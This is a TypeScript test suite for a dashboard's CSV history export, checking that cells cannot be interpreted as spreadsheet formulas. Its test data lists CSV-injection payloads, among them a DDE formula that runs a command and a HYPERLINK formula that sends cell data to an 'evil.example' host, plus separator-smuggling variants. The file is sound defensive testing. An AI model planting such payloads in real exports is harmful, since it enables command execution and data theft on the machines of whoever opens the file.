import naughty from 'big-list-of-naughty-strings/blns.json';
import { toggle } from '../support/config';
import { client, dashboardApp, dashboardEngine } from '../support/dashboard';

const DDE = "=cmd|'/c calc'!A1";
const formulas = [
  ...[DDE, '=1+1', '+1+1', '-1+1', '@SUM(1+1)', '=HYPERLINK("http://evil.example?x="&A1,"click")', '%1', '|1'],
  ...[' =1+1', '\u00a0=1+1', '\ufeff=1+1', '\t=1+1', '\r=1+1', '\n=1+1', '\0=1+1', '\u3000=1+1', '" =1+1', '""=1+1'],
  ...['＝1+1', '＋1+1', '－1+1', '＠SUM(1)', "'=1+1", '=1+1;=1+1', '==1', '=\n1'],
  // Where ; or a tab separates cells, none of ours is quoted: what stands behind one begins a cell.
  ...[
    `ok;${DDE};ok`,
    `ok\t${DDE}\tok`,
    `ok\n${DDE}\nok`,
    `ok\r\n${DDE};ok`,
    `ok; ${DDE};`,
    `ok;"${DDE};ok`,
    `ok;" ${DDE};`,
  ],
  ...[
    `",${DDE},"`,
    `",\r\n${DDE},`,
    `ok;;;${DDE}`,
    `ok;\t ${DDE};ok`,
    `ok\n\n"${DDE}\nok`,
    'ok;＝1+1;ok',
    `ok;\0${DDE};`,
  ],
];

/** Reads a file as spreadsheets do: a quote at the start of a cell opens it, and what follows its end belongs to it, too. */
function cellsOf(text: string, separator: string): string[] {
  const cells: string[] = [];
  for (let at = 0; at <= text.length; at++) {
    let cell = '';
    const opened = text[at] === '"';
    if (opened)
      for (at++; at < text.length && !(text[at] === '"' && text[at + 1] !== '"'); at++) {
        if (text[at] === '"') at++;
        cell += text[at];
      }
    if (opened) at++;
    for (; at < text.length && ![separator, '\r', '\n'].includes(text[at]!); at++) cell += text[at];
    cells.push(cell);
  }
  return cells;
}

/** Whether a spreadsheet may calculate it; a plain number is as it was. */
const calculates = (cell: string) => /^[\s\0]*[=+\-@|%＝＋－＠]/.test(cell) && Number.isNaN(Number(cell));

async function exported(text: string): Promise<string> {
  const engine = dashboardEngine({}, { [text]: toggle() });
  const by = { actor: text, reason: text };
  await engine.live.kill(text, by);
  await engine.live.restore(text, by);
  await engine.live.addUser('CHECKOUT', 'ONE_PAGE', text, by);
  await engine.live.addToSegment('beta testers', [text, `${text}2`], by);
  return (await client(dashboardApp(engine), 'viewer').get('/history.csv').expect(200)).text;
}

test.each(formulas)('%j is no formula, whatever separates cells', async (formula) => {
  const text = await exported(formula);
  for (const separator of [',', ';', '\t'])
    expect([separator, cellsOf(text, separator).filter(calculates)]).toEqual([separator, []]);
  const rows = text.split('\r\n').filter((line) => /^\d+,/.test(line));
  expect(rows).toHaveLength(4);
});

test.each(['plain', 'a, "b"', 'two\nlines', "it's 5 - 3; fine"])('%j can be read again as it was', async (reason) => {
  const engine = dashboardEngine();
  await engine.live.kill('BANNER', { actor: 'ada', reason });
  const { text } = await client(dashboardApp(engine), 'viewer').get('/history.csv');
  expect(cellsOf(text, ',')).toContain(reason);
});

test('nothing on the list of naughty strings is a formula either', async () => {
  const engine = dashboardEngine();
  for (const reason of naughty.filter((one) => one.trim() !== ''))
    await engine.live.addUser('CHECKOUT', 'STEPS', 7, { actor: reason, reason });
  const { text } = await client(dashboardApp(engine), 'viewer').get('/history.csv');
  for (const separator of [',', ';', '\t']) expect(cellsOf(text, separator).filter(calculates)).toEqual([]);
});

test('thousands of changes full of separators are written in a moment', async () => {
  const engine = dashboardEngine();
  const reason = ';\n"  '.repeat(200);
  for (let n = 0; n < 2_000; n++) await engine.live.pin('CHECKOUT', 'STEPS', { actor: 'ada', reason });
  const viewer = client(dashboardApp(engine), 'viewer');
  const start = performance.now();
  await viewer.get('/history.csv').expect(200);
  expect(performance.now() - start).toBeLessThan(10_000);
});
